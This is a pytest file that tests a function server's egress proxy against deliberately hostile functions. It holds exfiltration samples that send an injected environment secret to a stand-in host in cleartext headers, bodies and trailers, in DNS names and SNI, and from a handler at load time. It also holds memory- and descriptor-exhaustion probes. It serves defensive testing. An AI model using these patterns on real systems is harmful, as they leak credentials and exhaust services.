"""A function and a host that work together against the server where a secret is put in: it stays small, and lets them go."""

from __future__ import annotations

import json
import re
import socket
import ssl
import time
from collections.abc import Iterator
from typing import Any

import pytest
from casemate_fixture import Server, handler, memory_in_kib, wait_until
from egress_probe import EgressProbe, evidence, exchanges, metrics, refused, timed, was_refused
from network_world import DEAD_ADDRESS, DEAD_ADDRESS_6, World
from world_dns import AAAA, A
from world_services import Arrival, authority

PUBLIC = "93.184.216.34"
HOST, PLAIN, DEAD = "host.example.com", "plain.example.com", "dead.example.com"
# Ports of this test's own services.
SILENT, SLOW, DEAF, STORE = 8451, 8452, 8453, 8454
KEY = "correct-horse-battery-staple-7q2k"
OTHER_KEY = "another-value-of-this-function"
MIB = 1 << 20

probe = EgressProbe(
    "hostile/inject",
    egress=[f"{HOST}:{port}" for port in (SILENT, SLOW, DEAF, STORE)] + [f"{PLAIN}:80", f"{DEAD}:{SILENT}"],
    secrets=[
        *({"name": f"KEY_{port}", "deliver": "inject", "host": f"{HOST}:{port}", "header": "X-Key"} for port in (SILENT, SLOW, DEAF, STORE)),
        {"name": "DEAD_KEY", "deliver": "inject", "host": f"{DEAD}:{SILENT}", "header": "X-Key"},
        "OTHER",
    ],
    limits={"timeout": "120s"},
    scale={"max": 1},
)  # fmt: skip


tells = EgressProbe(
    "hostile/tells",
    egress=[f"{HOST}:443", f"{PLAIN}:80", f"*.star.example.net:{DEAF}"],
    secrets=["PASSWORD"],
)


def secured(stream: socket.socket) -> ssl.SSLSocket:
    return authority().context("unnamed.invalid").wrap_socket(stream, server_side=True)


def never_greets(stream: socket.socket, arrival: Arrival) -> None:
    """Takes the bytes of TLS and says nothing."""
    while data := stream.recv(1 << 16):
        arrival.received += len(data)


def reads_slowly(stream: socket.socket, arrival: Arrival) -> None:
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
    with secured(stream) as secure, secure.makefile("rb") as reader:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += reader.readline(65536)
        left = int(re.search(rb"content-length: *(\d+)", head, re.I)[1])  # type: ignore[index]
        while left and (part := reader.read(min(left, 1 << 17))):
            left -= len(part)
            arrival.received += len(part)
            time.sleep(0.01)
        secure.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndone")


def never_answers(stream: socket.socket, arrival: Arrival) -> None:
    with secured(stream) as secure:
        while data := secure.recv(1 << 16):
            arrival.received += len(data)


STORED: list[bytes] = []


def gives_back(stream: socket.socket, arrival: Arrival) -> None:
    """What was stored, in one chunk of 8 KiB after the other, with a pause."""
    with secured(stream) as secure:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += secure.recv(1) or b"\r\n\r\n"
        arrival.heads.append(head)
        secure.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
        for part in STORED:
            secure.sendall(b"%x\r\n%s\r\n" % (len(part), part))
            time.sleep(0.02)
        secure.sendall(b"0\r\n\r\n")


@pytest.fixture(scope="module")
def walled_server(network: World) -> Iterator[Server]:
    for port, does in {SILENT: never_greets, SLOW: reads_slowly, DEAF: never_answers, STORE: gives_back}.items():
        network.serve(port, does)
    with network.server("--egress-authorities", str(authority().folder / "authority.crt")) as server:
        server.namespace("hostile")
        for port in (SILENT, SLOW, DEAF, STORE):
            server.secret("hostile/inject", f"KEY_{port}", KEY)
        server.secret("hostile/inject", "DEAD_KEY", KEY)
        server.secret("hostile/inject", "OTHER", OTHER_KEY)
        yield server


@pytest.fixture
def hosts(walled: Server, world: World) -> World:
    world.dns[HOST] = world.dns[PLAIN] = [A(PUBLIC)]
    world.dns[DEAD] = [A(DEAD_ADDRESS), AAAA(DEAD_ADDRESS_6)]
    return world


@probe
def uploads(host: str, port: int, count: int) -> dict[str, Any]:
    """A body of `count` MiB, sent for as long as it is taken."""
    import socket
    import ssl

    sent = 0

    def upload() -> dict[str, Any]:
        nonlocal sent
        with socket.create_connection((host, port), 20) as plain:
            with ssl.create_default_context().wrap_socket(plain, server_hostname=host) as stream:
                stream.settimeout(30)
                stream.sendall(f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {count << 20}\r\n\r\n".encode())
                for _ in range(count * 16):
                    stream.sendall(b"x" * 65536)
                    sent += 65536
                with stream.makefile("rb") as reader:
                    return {"answer": reader.read().decode("latin-1")}

    return timed(upload) | {"sent": sent}


def test_a_host_that_never_greets_fills_no_memory_and_is_let_go(walled: Server, hosts: World) -> None:
    """All that is written before TLS is agreed on would wait in memory."""
    probe.deploy(walled)
    before = memory_in_kib(walled.pid)
    found = uploads(walled, host=HOST, port=SILENT, count=200)
    assert "error" in found and 8 < found["seconds"] < 14, found
    assert found["sent"] < 16 * MIB and memory_in_kib(walled.pid) - before < 16 << 10, found


def test_an_upload_to_a_slow_host_comes_to_its_end(walled: Server, hosts: World) -> None:
    before = memory_in_kib(walled.pid)
    found = uploads(walled, host=HOST, port=SLOW, count=24)
    assert found.get("answer", "").endswith("done"), found
    assert [arrival.received for arrival in hosts.arrivals_at(port=SLOW)] == [24 * MIB]
    assert memory_in_kib(walled.pid) - before < 16 << 10


@probe
def pipelines(host: str, port: int, size: int, count: int) -> dict[str, Any]:
    """Heads of `size` bytes, one behind the other, without waiting for an answer."""
    import socket
    import ssl

    sent = 0

    def pipeline() -> dict[str, Any]:
        nonlocal sent
        with socket.create_connection((host, port), 10) as plain:
            with ssl.create_default_context().wrap_socket(plain, server_hostname=host) as stream:
                stream.settimeout(3)
                one = f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Filler: {'x' * size}\r\n\r\n".encode()
                for _ in range(count):
                    stream.sendall(one)
                    sent += 1
                return {"answer": stream.recv(65536).decode("latin-1")}

    return timed(pipeline) | {"sent": sent}


@pytest.mark.parametrize(("size", "count"), [(30, 200_000), (50_000, 1000)], ids=["small ones", "large ones"])
def test_requests_that_nobody_answers_fill_no_memory(walled: Server, hosts: World, size: int, count: int) -> None:
    before = memory_in_kib(walled.pid)
    found = pipelines(walled, host=HOST, port=DEAF, size=size, count=count)
    assert "error" in found and found["sent"] < count, found
    assert memory_in_kib(walled.pid) - before < 32 << 10, found


def test_a_head_without_end_is_refused(walled: Server, hosts: World) -> None:
    before = refused(walled, "bad-request")
    found = pipelines(walled, host=HOST, port=DEAF, size=100_000, count=2)
    assert not found.get("answer") and not any(arrival.received for arrival in hosts.arrivals_at(port=DEAF)), found
    assert refused(walled, "bad-request") > before, walled.logs("hostile/inject")[-3:]


@probe
def knocks_and_goes(host: str, port: int, count: int) -> int:
    """Connects with a request for a host that does not answer, and resets, `count` times, sixteen at once."""
    import socket
    import ssl
    import struct
    import time
    from concurrent.futures import ThreadPoolExecutor

    context = ssl.create_default_context()

    def knock(_: int) -> int:
        try:
            with socket.create_connection((host, port), 2) as plain:
                stream = context.wrap_socket(plain, server_hostname=host)
                stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                time.sleep(0.05)  # until the server has its address, and begins to connect
                stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                stream.close()
                return 1
        except OSError:
            return 0

    with ThreadPoolExecutor(16) as pool:
        return sum(pool.map(knock, range(count)))


def open_descriptors(server: Server) -> int:
    import os

    return len(os.listdir(f"/proc/{server.pid}/fd"))


def test_attempts_to_reach_a_dead_host_count_for_as_long_as_they_last(walled: Server, hosts: World) -> None:
    before, denied = open_descriptors(walled), refused(walled, "quota")
    was_open = metrics(walled)["casemate_egress_open"]
    made = knocks_and_goes(walled, host=DEAD, port=SILENT, count=600)
    most = open_descriptors(walled) - before
    assert most < 256 * 3 + 64, f"{most} descriptors of one function"
    assert refused(walled, "quota") > denied and 250 < made < 600, "no more than 256 are under way"
    assert wait_until(lambda: open_descriptors(walled) - before < 40, 20), open_descriptors(walled) - before
    assert wait_until(lambda: metrics(walled)["casemate_egress_open"] <= was_open, 20), metrics(walled)


@probe
def chunk_sizes(host: str, port: int) -> list[int]:
    """The chunks of an answer as they come in, by their lengths."""
    import socket
    import ssl

    sizes = []
    with socket.create_connection((host, port), 10) as plain:
        with ssl.create_default_context().wrap_socket(plain, server_hostname=host) as stream:
            stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            with stream.makefile("rb") as reader:
                while reader.readline().strip():
                    pass
                while size := int(reader.readline(), 16):
                    sizes.append(size)
                    reader.read(size + 2)
    return sizes


def test_how_an_answer_comes_tells_nothing_of_the_value(walled: Server, hosts: World) -> None:
    """A stored guess ends each part; were only what may be a value held back, the chunks would tell how far the guess is right."""
    sizes = {}
    for name, guess in {"right": KEY[:14], "wrong": "x" * 14}.items():
        STORED[:] = [b"y" * 1000 + guess.encode()] * 8
        sizes[name] = chunk_sizes(walled, host=HOST, port=STORE)
    assert sizes["right"] == sizes["wrong"] and sum(sizes["right"]) == 8 * 1014, sizes


@probe
def posts_in_clear(pieces: list[str]) -> dict[str, Any]:
    raw = "POST / HTTP/1.1\r\nHost: plain.example.com\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n"
    found: dict[str, Any] = exchanges("plain.example.com", 80, [raw.encode().hex(), *pieces], pause=0.05)
    return found


def chunk(text: str) -> str:
    return f"{len(text):x}\r\n{text}\r\n".encode().hex()


END = b"0\r\n\r\n".hex()
CLEAR = {
    "a header": [f"X-Any: {OTHER_KEY}\r\n\r\n".encode().hex(), END],
    "a header's name": [f"{OTHER_KEY}: x\r\n\r\n".encode().hex(), END],
    "a body": [b"\r\n".hex(), chunk(OTHER_KEY), END],
    "a body in parts": [b"\r\n".hex(), chunk(OTHER_KEY[:9]), chunk(OTHER_KEY[9:]), END],
    "a body, byte by byte": [b"\r\n".hex(), *map(chunk, OTHER_KEY), END],
    "a trailer": [b"\r\n".hex(), chunk("x"), f"0\r\nX-Any: {OTHER_KEY}\r\n\r\n".encode().hex()],
    "a trailer's name": [b"\r\n".hex(), chunk("x"), f"0\r\n{OTHER_KEY}: x\r\n\r\n".encode().hex()],
}


@pytest.mark.guarantee("COG-16")
@pytest.mark.parametrize("place", CLEAR)
def test_no_secret_goes_out_without_TLS(walled: Server, hosts: World, place: str) -> None:
    before = refused(walled, "secret-in-clear")
    found = posts_in_clear(walled, pieces=CLEAR[place])
    assert was_refused(found, within=4), found
    assert refused(walled, "secret-in-clear") > before
    assert OTHER_KEY not in json.dumps(walled.logs("hostile/inject"))


@pytest.mark.guarantee("COG-16")
def test_what_is_no_secret_goes_out_without_TLS_whole(walled: Server, hosts: World) -> None:
    pieces = [b"\r\n".hex(), chunk("another-value-of-this"), chunk("-"), chunk("x" * 70_000), chunk("\n"), END]
    found = posts_in_clear(walled, pieces=pieces)
    assert found["received"].startswith("HTTP/1.1 200"), found
    [arrival] = hosts.arrivals_at(port=80)
    assert arrival.received == 21 + 1 + 70_000 + 1


def test_a_path_or_a_host_of_another_kind_has_no_secret_either(walled: Server, hosts: World) -> None:
    for line in (f"GET /{OTHER_KEY} HTTP/1.1", f"GET /?k={OTHER_KEY} HTTP/1.1", f"{OTHER_KEY} / HTTP/1.1"):
        raw = f"{line}\r\nHost: {PLAIN}\r\nConnection: close\r\n\r\n"
        assert was_refused(probe.exchanges(walled, host=PLAIN, port=80, pieces=[raw.encode().hex()])), line
    assert hosts.arrivals_at(port=80) == [] or not any(arrival.heads for arrival in hosts.arrivals_at(port=80))


LOADS = handler("""
    import os
    import urllib.request

    try:
        urllib.request.urlopen(urllib.request.Request("http://plain.example.com/", headers={"X-Any": os.environ["OTHER"]}), timeout=3)
    except OSError:
        pass

    def handle(event, context):
        return {"body": "loaded"}
    """)


@pytest.mark.guarantee("COG-16")
def test_nor_while_the_handler_is_loaded_at_the_deployment(walled: Server, hosts: World) -> None:
    walled.namespace("hostile")
    walled.secret("hostile/loads", "OTHER", OTHER_KEY)
    walled.deploy("hostile", "loads", LOADS, {"signature": "scaleway", "egress": [f"{PLAIN}:80"], "secrets": ["OTHER"]})
    assert walled.call("hostile/loads", body={}).text == "loaded"
    assert not any(arrival.heads for arrival in hosts.arrivals_at(port=80))


PASSWORD = "Hunter2-in-a-Name-9x4k"


@tells
def puts_it_where_names_go(name: str) -> None:
    """As a connection string that was cut wrong does, and as a hostile function would."""
    import socket
    import ssl
    import time

    for host, port in ((name, 443), (f"{name}.example.org", 443), (f"{name}.star.example.net", 8453)):
        try:
            with socket.create_connection((host, port), 3):
                time.sleep(0.3)  # until the server is connected too
        except OSError:
            pass
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for sni in (name, f"{name}.example.org"):
        try:
            with socket.create_connection(("host.example.com", 443), 3) as plain:
                context.wrap_socket(plain, server_hostname=sni)
        except OSError:
            pass
    for host in (name, f"{name}.example.org"):
        with socket.create_connection(("plain.example.com", 80), 3) as stream:
            try:
                stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                stream.recv(1)
            except OSError:
                pass


@pytest.mark.guarantee("COG-16")
def test_a_secret_in_a_name_stands_in_no_log_and_no_list(walled: Server, hosts: World) -> None:
    walled.namespace("hostile")
    walled.secret("hostile/tells", "PASSWORD", PASSWORD)
    hosts.dns[f"{PASSWORD}.star.example.net".lower()] = [A(PUBLIC)]
    puts_it_where_names_go(walled, name=PASSWORD)

    def told() -> str:
        return json.dumps([walled.logs("hostile/tells"), evidence(walled, "hostile/tells")]) + "".join(walled.err)

    assert wait_until(lambda: told().count("[secret:PASSWORD]") >= 6, 5), told()[-3000:]
    time.sleep(0.5)
    assert PASSWORD.lower() not in told().lower()
    assert any(
        entry["target"].startswith("[secret:PASSWORD].star") for entry in evidence(walled, "hostile/tells")["used"]
    )
